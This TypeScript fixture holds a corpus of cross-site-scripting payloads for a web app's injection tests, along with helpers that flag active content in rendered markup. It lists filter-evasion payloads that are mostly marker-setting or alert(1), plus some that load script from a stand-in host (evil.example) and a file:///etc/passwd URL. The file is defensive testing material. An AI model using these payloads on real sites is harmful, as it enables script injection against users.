/**
 * A corpus of cross-site-scripting payloads (OWASP XSS filter evasion cheat-sheet style) used by the
 * injection tests: tests/integration/xss-handlers.test.ts, tests/integration/xss-render.test.tsx and
 * tests/e2e/xss.spec.ts.
 *
 * Every payload that could execute sets the global marker `window.__xss` (or calls `alert`, which the
 * browser tests see as a dialog), so a test can tell whether anything ran.
 */

import { isStorableText } from '../../api/rules/storable-text'

export interface XssPayload {
  /** Short stable name, used in test titles. */
  id: string
  value: string
  /**
   * A URL payload: its scheme would run script or load active content (javascript:, data:, vbscript:...),
   * or it leaves the site in a way a link field must not allow. Every URL field must refuse it (422).
   */
  url: boolean
  /**
   * Whether the payload is dangerous when a naive renderer puts it into HTML (innerHTML, or an href attribute
   * written into markup): the render checker must flag it then. Used to prove the checker catches what it must.
   */
  flaggedWhenUnsafe: boolean
}

const MARK = 'window.__xss=1'
const B64_SCRIPT = 'PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==' // <script>window.__xss=1</script>
const B64_SVG = 'PHN2ZyBvbmxvYWQ9d2luZG93Ll9feHNzPTE+' // <svg onload=window.__xss=1>

const html = (id: string, value: string, flaggedWhenUnsafe = true): XssPayload => ({ id, value, url: false, flaggedWhenUnsafe })
const url = (id: string, value: string, flaggedWhenUnsafe = true): XssPayload => ({ id, value, url: true, flaggedWhenUnsafe })

/** Markup and template payloads: harmless as text, dangerous when parsed as HTML. */
export const HTML_PAYLOADS: readonly XssPayload[] = [
  html('script', `<script>${MARK}</script>`),
  html('script-upper-src', '<SCRIPT SRC=//evil.example/xss.js></SCRIPT>'),
  html('script-alert', '<script>alert(1)</script>'),
  html('img-onerror', `<img src=x onerror="${MARK}">`),
  html('img-onerror-alert', '<img src=x onerror=alert(1)>'),
  html('img-js-src', '<IMG SRC=javascript:alert(1)>'),
  html('img-js-mixed-case', '<IMG SRC=JaVaScRiPt:alert(1)>'),
  html('img-backtick', '<img src=`x` onerror=alert(1)>'),
  html('img-quotes-breakout', `<IMG """><SCRIPT>${MARK}</SCRIPT>">`),
  html('svg-onload', `<svg onload=${MARK}>`),
  html('svg-slash-onload', '<svg/onload=alert(1)>'),
  html('svg-script', `<svg><script>${MARK}</script></svg>`),
  html('body-onload', `<body onload=${MARK}>`),
  html('iframe-js', `<iframe src="javascript:${MARK}"></iframe>`),
  html('iframe-srcdoc', '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>'),
  html('object-data', '<object data="javascript:alert(1)"></object>'),
  html('embed-data', `<embed src="data:text/html;base64,${B64_SCRIPT}">`),
  html('a-js', `<a href="javascript:${MARK}">click</a>`),
  html('a-data', '<a href="data:text/html,<script>alert(1)</script>">open</a>'),
  html('a-entity-js', `<a href="&#106;avascript:${MARK}">x</a>`),
  html('form-action', `<form action="javascript:${MARK}"><button>go</button></form>`),
  html('button-formaction', `<button formaction="javascript:${MARK}">go</button>`),
  html('input-autofocus', `<input autofocus onfocus=${MARK}>`),
  html('details-ontoggle', `<details open ontoggle=${MARK}>`),
  html('video-source-onerror', `<video><source onerror=${MARK}></video>`),
  html('audio-onerror', `<audio src=x onerror=${MARK}>`),
  html('marquee-onstart', `<marquee onstart=${MARK}>`),
  html('x-onclick', `<x onclick=${MARK}>click me`),
  html('mxss-math', `<math><mtext><table><mglyph><style><img src=x onerror=${MARK}>`, false),
  html('noscript-title', `<noscript><p title="</noscript><img src=x onerror=${MARK}>">`),
  html('comment-breakout', `<!--<img src="--><img src=x onerror=${MARK}//">`),
  html('attr-breakout-double', `"><img src=x onerror=${MARK}>`),
  html('attr-breakout-single', `'><svg onload=${MARK}>`),
  html('attr-inject-double', `" onmouseover="${MARK}" x="`, false),
  html('attr-inject-single', `' autofocus onfocus='${MARK}' x='`, false),
  html('close-title', `</title><script>${MARK}</script>`),
  html('close-script', `</script><script>${MARK}</script>`),
  html('close-textarea', `</textarea><script>${MARK}</script>`),
  html('close-style', `</style><script>${MARK}</script>`),
  html('nested-script', `<scr<script>ipt>${MARK}</scr</script>ipt>`, false),
  html('double-open', `<<SCRIPT>${MARK}//<</SCRIPT>`),
  html('style-url-js', `<div style="background:url(javascript:${MARK})">x</div>`, false),
  html('css-expression', `<div style="width: expression(${MARK})">x</div>`, false),
  html('style-import', '<style>@import "javascript:alert(1)";</style>', false),
  html('link-stylesheet', '<link rel=stylesheet href="javascript:alert(1)">'),
  html('meta-refresh', `<meta http-equiv="refresh" content="0;url=javascript:${MARK}">`),
  html('base-href', '<base href="javascript:alert(1)//">'),
  html('img-eval-src', '<img src=x:alert(1) onerror=eval(src)>'),
  html('template-angular', `{{constructor.constructor('${MARK}')()}}`, false),
  html('template-literal', `\${${MARK}}`, false),
  html('markdown-link-js', `[click](javascript:${MARK})`, false),
  html('markdown-link-data', `[x](data:text/html;base64,${B64_SCRIPT})`, false),
  html('markdown-image-onerror', `![x](x" onerror="${MARK})`, false),
  html('entity-escaped-script', `&lt;script&gt;${MARK}&lt;/script&gt;`, false),
  html('js-unicode-escaped', `\\u003cscript\\u003e${MARK}\\u003c/script\\u003e`, false),
  html('fullwidth-brackets', `\uff1cscript\uff1e${MARK}\uff1c/script\uff1e`, false),
  html('percent-encoded-script', '%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E', false),
  html('rtl-override', `\u202e<script>${MARK}</script>`),
  html('null-byte-tag', `<scr\u0000ipt>${MARK}</scr\u0000ipt>`, false),
  html(
    'polyglot',
    `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${MARK} )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${MARK}//>\\x3e`,
  ),
]

/** Dangerous URLs: every link and image field must refuse each of them. */
export const URL_PAYLOADS: readonly XssPayload[] = [
  url('js', `javascript:${MARK}`),
  url('js-mixed-case', `JaVaScRiPt:${MARK}`),
  url('js-upper-alert', 'JAVASCRIPT:alert(1)'),
  url('js-leading-space', ` javascript:${MARK}`),
  url('js-leading-tab', `\tjavascript:${MARK}`),
  url('js-leading-newline', `\njavascript:${MARK}`),
  url('js-inner-tab', `java\tscript:${MARK}`),
  url('js-inner-newline', `java\nscript:${MARK}`),
  url('js-inner-cr', `java\rscript:${MARK}`),
  url('js-tab-before-colon', `javascript\t:${MARK}`),
  url('js-leading-nul', `\u0000javascript:${MARK}`),
  url('js-leading-c0', `\u0001javascript:${MARK}`),
  url('js-leading-nbsp', `\u00a0javascript:${MARK}`, false),
  url('js-leading-bom', `\ufeffjavascript:${MARK}`, false),
  url('js-leading-line-separator', `\u2028javascript:${MARK}`, false),
  url('js-entity-decimal', `&#106;avascript:${MARK}`),
  url('js-entity-hex', `&#x6A;avascript:${MARK}`),
  url(
    'js-entity-padded',
    '&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)',
  ),
  url('js-entity-tab', `jav&#x09;ascript:${MARK}`),
  url('js-entity-colon', `javascript&colon;${MARK}`),
  url('js-percent-encoded', '%6A%61%76%61%73%63%72%69%70%74%3A%61%6C%65%72%74%28%31%29', false),
  url('js-percent-body', 'javascript:%61lert(1)'),
  url('js-comment-newline', `javascript://%0A${MARK}`),
  url('js-comment-real-newline', `javascript://comment\n${MARK}`),
  url('https-js', 'https:javascript:alert(1)', false),
  url('data-html-base64', `data:text/html;base64,${B64_SCRIPT}`),
  url('data-html', `data:text/html,<script>${MARK}</script>`),
  url('data-upper', 'DATA:text/html,<script>alert(1)</script>'),
  url('data-svg-base64', `data:image/svg+xml;base64,${B64_SVG}`),
  url('data-svg', `data:image/svg+xml,<svg onload=${MARK}>`),
  url('data-js', 'data:application/javascript,alert(1)'),
  url('vbscript', 'vbscript:msgbox(1)'),
  url('vbscript-mixed-case', 'VBScript:MsgBox("XSS")'),
  url('livescript', 'livescript:alert(1)'),
  url('file', 'file:///etc/passwd'),
  url('blob', 'blob:https://evil.example/0b3e2e1a'),
  url('protocol-relative', '//evil.example/x.js', false),
  url('backslash-host', '/\\evil.example', false),
  url('double-backslash', '\\\\evil.example', false),
  url('slash-tab-slash', '/\t/evil.example', false),
  url('markdown-js', `[x](javascript:${MARK})`, false),
]

/** The whole corpus: markup payloads first, then URL payloads (which are also tried as text). */
export const XSS_PAYLOADS: readonly XssPayload[] = [...HTML_PAYLOADS, ...URL_PAYLOADS]

/** The payloads a free-text field stores: all but those holding a NUL, which the API refuses in any text (422). */
export const STORABLE_PAYLOADS: readonly XssPayload[] = XSS_PAYLOADS.filter((p) => isStorableText(p.value))

/** What a text field stores for a payload: text fields trim surrounding whitespace. */
export const stored = (value: string) => value.trim()

/**
 * Splits payloads into groups whose values, joined by `separator`, fit `max` characters (after trimming).
 * Payloads longer than `max` on their own are left out: the field refuses them by length, not content.
 */
export function packPayloads(payloads: readonly XssPayload[], max: number, separator = ' '): XssPayload[][] {
  const groups: XssPayload[][] = []
  let current: XssPayload[] = []
  let length = 0
  for (const payload of payloads) {
    const size = stored(payload.value).length
    if (size === 0 || size > max) continue
    const added = current.length ? separator.length + size : size
    if (current.length && length + added > max) {
      groups.push(current)
      current = []
      length = 0
    }
    length += current.length ? separator.length + size : size
    current.push(payload)
  }
  if (current.length) groups.push(current)
  return groups
}

/** The text a group of payloads is stored as. */
export const joinPayloads = (group: readonly XssPayload[], separator = ' ') => group.map((p) => stored(p.value)).join(separator)

const SAFE_SCHEMES = new Set(['http:', 'https:'])

/**
 * Whether a rendered URL attribute is one the site may produce: a site path or fragment, http(s),
 * mailto:/tel: for links, and (for image sources only) a data:image/ raster URL. Browsers ignore leading
 * and embedded tabs, newlines and control characters in a scheme, so those are removed before the check.
 */
export function isAllowedRenderedUrl(raw: string, attribute: string, tagName: string): boolean {
  // eslint-disable-next-line no-control-regex
  const value = raw.replace(/[\u0000-\u0020\u007f]+/g, '').toLowerCase()
  if (value === '') return true
  if (value.startsWith('/') && !value.startsWith('//') && !value.startsWith('/\\')) return true
  if (value.startsWith('#') || value.startsWith('?')) return true
  const scheme = /^([a-z][a-z0-9+.-]*):/.exec(value)?.[1]
  if (!scheme) return !value.includes(':') && !value.includes('\\') // a relative path ("images/x.png")
  if (SAFE_SCHEMES.has(`${scheme}:`)) return true
  if ((scheme === 'mailto' || scheme === 'tel') && attribute === 'href' && tagName === 'a') return true
  if (scheme === 'data' && (attribute === 'src' || attribute === 'srcset' || attribute === 'href') && tagName !== 'a') {
    return /^data:image\/(png|jpeg|webp|gif|avif)[;,]/.test(value)
  }
  return false
}

const URL_ATTRIBUTES = ['href', 'src', 'srcset', 'action', 'formaction', 'poster', 'data', 'xlink:href', 'background', 'ping']
/** Elements that run or load active content. A JSON data block (the prerendered state, JSON-LD) is inert. */
const ACTIVE_TAGS = new Set(['script', 'iframe', 'frame', 'object', 'embed', 'applet', 'base'])
const DATA_BLOCKS = new Set(['application/json', 'application/ld+json'])

/** A plain copy of an element (tag name and attributes), so a snapshot taken in a browser can be checked here. */
export interface ElementSnapshot {
  tag: string
  attrs: [name: string, value: string][]
}

/** Snapshots every element under `root` (itself included when it is an element). */
export function snapshotElements(root: ParentNode): ElementSnapshot[] {
  const elements = [...(root instanceof Element ? [root] : []), ...Array.from(root.querySelectorAll('*'))]
  return elements.map((el) => ({
    tag: el.tagName.toLowerCase(),
    attrs: Array.from(el.attributes).map((a): [string, string] => [a.name.toLowerCase(), a.value]),
  }))
}

/**
 * Everything in a snapshot that could run script: script and other active elements, meta refresh, `on*`
 * handler attributes, and URL attributes with a scheme other than the allowed ones. One line per problem.
 */
export function activeContentIn(elements: readonly ElementSnapshot[]): string[] {
  const problems: string[] = []
  for (const { tag, attrs } of elements) {
    const attr = (name: string) => attrs.find(([n]) => n === name)?.[1]
    if (ACTIVE_TAGS.has(tag) && !(tag === 'script' && DATA_BLOCKS.has(attr('type') ?? ''))) {
      problems.push(`active element <${tag}>`)
    }
    if (tag === 'meta' && attr('http-equiv')?.toLowerCase() === 'refresh') problems.push('<meta http-equiv="refresh">')
    for (const [name, value] of attrs) {
      if (name.startsWith('on')) problems.push(`<${tag} ${name}="${value}">`)
      if (!URL_ATTRIBUTES.includes(name)) continue
      const urls = name === 'srcset' ? value.split(',').map((s) => s.trim().split(/\s+/)[0] ?? '') : [value]
      for (const u of urls) {
        if (!isAllowedRenderedUrl(u, name === 'srcset' ? 'src' : name, tag)) problems.push(`<${tag} ${name}="${u}">`)
      }
    }
  }
  return problems
}

/** `activeContentIn` for a live DOM subtree. */
export const findActiveContent = (root: ParentNode) => activeContentIn(snapshotElements(root))
